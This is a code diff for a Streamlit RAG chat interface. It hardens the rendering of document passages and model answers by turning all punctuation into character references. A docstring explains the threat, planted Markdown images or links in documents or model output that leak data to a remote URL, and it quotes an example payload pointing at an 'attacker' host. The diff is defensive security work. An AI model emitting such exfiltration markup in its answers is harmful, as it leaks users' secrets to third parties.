@@ -13,9 +13,9 @@ Evaluation (the reports found in ``ui.reports_dir``, and the feedback collected)
 
 from __future__ import annotations
 
-import html
 import json
 import re
+import string
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -45,6 +45,7 @@ _CSS = """
 .rag-passage { border-left: 4px solid #4a7bd0; padding: 0.5rem 0.8rem; background: #f6f8fc;
                white-space: pre-wrap; line-height: 1.5; }
 .rag-passage mark { background: #ffe066; padding: 0 2px; }
+.rag-answer { white-space: pre-wrap; line-height: 1.6; margin-bottom: 0.5rem; }
 </style>
 """
 
@@ -148,14 +149,14 @@ def _chat_page(rag: RAG, feedback: FeedbackStore) -> None:
     turns: list[dict[str, Any]] = st.session_state.setdefault("turns", [])
     for i, turn in enumerate(turns):
         with st.chat_message("user"):
-            st.markdown(turn["question"])
+            st.markdown(_inert(turn["question"]))
         with st.chat_message("assistant"):
             _show_answer(i, turn, rag, feedback)
     question = st.chat_input("Ask a question about your documents")
     if not question:
         return
     with st.chat_message("user"):
-        st.markdown(question)
+        st.markdown(_inert(question))
     with st.chat_message("assistant"):
         session = rag.chat(st.session_state.get("conversation"))
         st.session_state.conversation = session.id
@@ -163,7 +164,7 @@ def _chat_page(rag: RAG, feedback: FeedbackStore) -> None:
             with st.spinner("Searching the documents, writing and checking the answer…"):
                 pieces = iter(session.stream(question))
                 first = next(pieces, "")  # a one-sentence answer arrives once it is checked
-            st.write_stream(_chain(first, pieces))
+            _stream_inert(_chain(first, pieces))
         except RagAppError as exc:
             st.error(str(exc))
             return
@@ -177,42 +178,85 @@ def _chain(first: str, rest: Any) -> Any:
     yield from rest
 
 
+def _stream_inert(pieces: Any) -> str:
+    """Show the answer as it streams, as inert text (``st.write_stream`` would render its Markdown,
+    and a planted image would load while the answer is still being written)."""
+    box, text = st.empty(), ""
+    for piece in pieces:
+        text += piece
+        box.markdown(f'<div class="rag-answer">{_inert(text)}</div>', unsafe_allow_html=True)
+    return text
+
+
 def _show_answer(i: int, turn: dict[str, Any], rag: RAG, feedback: FeedbackStore) -> None:
     answer: Answer = turn["answer"]
     if answer.abstained:
-        st.warning(f"**{answer.text}** {answer.abstain_reason}", icon="🚫")
+        st.warning(f"**{_inert(answer.text)}** {_inert(answer.abstain_reason or '')}", icon="🚫")
         if answer.draft and st.session_state.get("show_rejected"):
-            st.caption(f"Withheld draft, not supported by the documents: “{answer.draft}”")
+            st.caption(f"Withheld draft, not supported by the documents: “{_inert(answer.draft)}”")
     else:
-        st.markdown(_marked_text(answer), unsafe_allow_html=True)
+        st.markdown(f'<div class="rag-answer">{_marked_text(answer)}</div>', unsafe_allow_html=True)
         if not answer.supported:
             st.error("Not supported by the documents: check it against the sources.", icon="⚠️")
     _grounding_badge(answer)
     for sentence in answer.grounding.flagged if answer.grounding is not None else []:
-        st.caption(f"⚠️ Not found in the sources: “{sentence.text.strip()}” (support {sentence.score:.2f})")
+        st.caption(
+            f"⚠️ Not found in the sources: “{_inert(sentence.text.strip())}” (support {sentence.score:.2f})"
+        )
     _citation_chips(i, answer)
     _feedback_controls(i, turn, rag, feedback)
 
 
 def _marked_text(answer: Answer) -> str:
-    """The answer as HTML with the sentences the guard flagged wrapped in a marked span."""
+    """The answer as inert HTML (see :func:`_inert`) with the sentences the guard flagged wrapped in a
+    marked span."""
     text = answer.text
     flagged = sorted(answer.grounding.flagged, key=lambda s: s.start) if answer.grounding is not None else []
     pieces, cursor = [], 0
     for s in flagged:
         if s.start < cursor or text[s.start : s.end] != s.text:
             continue  # spans that no longer match the text are shown unmarked, never misplaced
-        pieces.append(_escape(text[cursor : s.start]))
-        title = html.escape(f"{s.reason} (support {s.score:.2f})", quote=True)
-        pieces.append(f'<span class="rag-flagged" title="{title}">⚠️ {_escape(s.text)}</span>')
+        pieces.append(_inert(text[cursor : s.start]))
+        title = _inert(f"{s.reason} (support {s.score:.2f})")
+        pieces.append(f'<span class="rag-flagged" title="{title}">⚠️ {_inert(s.text)}</span>')
         cursor = s.end
-    pieces.append(_escape(text[cursor:]))
+    pieces.append(_inert(text[cursor:]))
     return "".join(pieces)
 
 
-def _escape(text: str) -> str:
-    """Text for HTML element content (quotes need no escaping there)."""
-    return html.escape(text, quote=False)
+# Every ASCII punctuation character and every line break: with these written as numeric character
+# references nothing of Markdown (images, links, autolinks, emphasis), GitHub's extensions, Streamlit's
+# directives (``:red[...]``, ``:material/...:``), math (``$``) or HTML survives in document or model text.
+_INERT = {ord(c): f"&#{ord(c)};" for c in string.punctuation + "\n\r"}
+
+
+def _inert(text: str) -> str:
+    """Document or model text as Markdown/HTML source that shows exactly that text and nothing else.
+
+    Passages and answers come from documents and from a model, so they may carry planted markup: an
+    image ``![](http://attacker/?q=secret)`` loads a remote URL the moment it is shown (a
+    data-exfiltration channel), a link or a raw ``<img>`` does the same on a click or at once. Here
+    each punctuation character and line break becomes a character reference, which Markdown and HTML
+    both show as the literal character: no image loads, a link is shown as its text with the target
+    visible, and it is never clickable. Line breaks are kept when the element has
+    ``white-space: pre-wrap`` (``.rag-passage``, ``.rag-answer``); as references they also keep an HTML
+    block on one line, so a blank line in a passage cannot end the block and start Markdown.
+    """
+    return text.translate(_INERT)
+
+
+def _label_text(text: str) -> str:
+    """Text for a widget label (Streamlit renders labels as Markdown, images included): backslash-escaped
+    punctuation, which labels show as the character itself."""
+    return re.sub(r"([\\`*_\[\]()!<>:$|~&])", r"\\\1", text)
+
+
+def _code(text: str) -> str:
+    """``text`` (a file name, a path) as a Markdown code span, which shows its content verbatim; the
+    fence is longer than any run of backticks inside, so the name cannot close it early."""
+    runs = re.findall(r"`+", text)
+    fence = "`" * (max((len(r) for r in runs), default=0) + 1)
+    return f"{fence} {text} {fence}"
 
 
 def _grounding_badge(answer: Answer) -> None:
@@ -232,7 +276,7 @@ def _grounding_badge(answer: Answer) -> None:
 
 
 def _citation_label(c: Citation) -> str:
-    name = Path(c.source).name
+    name = _label_text(Path(c.source).name)
     return f"[{c.number}] {name}" + (f" · p. {c.page}" if c.page else "")
 
 
@@ -254,7 +298,7 @@ def _citation_chips(i: int, answer: Answer) -> None:
 
 def _show_passage(c: Citation, answer: Answer) -> None:
     """The cited passage with the exact span that supports the answer highlighted."""
-    where = f"**[{c.number}] {c.source}**" + (f" · page {c.page}" if c.page else "")
+    where = f"**[{c.number}] {_inert(c.source)}**" + (f" · page {c.page}" if c.page else "")
     where += f" · characters {c.start}–{c.end} · retrieval score {c.score:.3f}"
     ranges = []
     for s in answer.grounding.sentences if answer.grounding is not None else []:
@@ -263,7 +307,7 @@ def _show_passage(c: Citation, answer: Answer) -> None:
     with st.container(border=True, key=f"passage-{c.chunk_id}-{c.number}"):
         st.markdown(where)
         if c.heading_path:
-            st.caption(" › ".join(c.heading_path))
+            st.caption(_inert(" › ".join(c.heading_path)))
         st.markdown(f'<div class="rag-passage">{_highlight(c.text, ranges)}</div>', unsafe_allow_html=True)
         if ranges:
             first = min(ranges)
@@ -273,15 +317,16 @@ def _show_passage(c: Citation, answer: Answer) -> None:
 
 
 def _highlight(text: str, ranges: list[tuple[int, int]]) -> str:
-    """``text`` as HTML with each character range in ``<mark>`` (overlaps are merged)."""
+    """``text`` as inert HTML (:func:`_inert`) with each character range in ``<mark>`` (overlaps merged)."""
     out, cursor = [], 0
     for start, end in sorted(ranges):
         if start < cursor:
             continue
-        marked = re.sub(r"(\s*\n\s*)", r"</mark>\1<mark>", _escape(text[start:end]))  # one per paragraph
-        out.append(_escape(text[cursor:start]) + "<mark>" + marked + "</mark>")
+        parts = re.split(r"(\s*\n\s*)", text[start:end])  # one <mark> per paragraph, breaks between
+        marked = "".join(_inert(p) if i % 2 else f"<mark>{_inert(p)}</mark>" for i, p in enumerate(parts))
+        out.append(_inert(text[cursor:start]) + marked)
         cursor = end
-    out.append(_escape(text[cursor:]))
+    out.append(_inert(text[cursor:]))
     return "".join(out)
 
 
@@ -361,7 +406,7 @@ def _ingest(rag: RAG, paths: list[Path], *, prune: bool = False) -> None:
     )
     (st.warning if report.nothing_ingested else st.success)(summary)
     for item in report.files_failed + report.files_skipped:
-        st.warning(f"Skipped `{item['path']}`: {item['error']}")
+        st.warning(f"Skipped {_code(item['path'])}: {_inert(item['error'])}")
 
 
 def _document_list(rag: RAG) -> None:
@@ -399,7 +444,7 @@ def _document_list(rag: RAG) -> None:
         except RagAppError as exc:
             st.error(str(exc))
         else:
-            st.success(f"Deleted `{source}` ({removed} chunks).")
+            st.success(f"Deleted {_code(source)} ({removed} chunks).")
             st.rerun()
     if reingest.button("Re-ingest", key="reingest-document", width="stretch", help="Reads the file again"):
         _ingest(rag, [Path(source)])
@@ -519,10 +564,12 @@ def _labelling_queue(settings: Settings) -> None:
         )
         for row in pending:
             with st.form(key=f"label-{row['id']}"):
-                st.markdown(f"**{_escape(row['question'])}**")
-                st.caption(f"The app answered: {_escape(row['app_answer'] or '(nothing)')}")
+                st.markdown(f"**{_inert(row['question'])}**")
+                st.caption(f"The app answered: {_inert(row['app_answer'] or '(nothing)')}")
                 with st.expander("Sources"):
-                    st.write(row["context"])
+                    st.markdown(
+                        f'<div class="rag-passage">{_inert(row["context"])}</div>', unsafe_allow_html=True
+                    )
                 answer = st.text_input("Right answer", key=f"answer-{row['id']}")
                 unanswerable = st.checkbox("The documents do not answer it", key=f"none-{row['id']}")
                 if st.form_submit_button("Save label"):
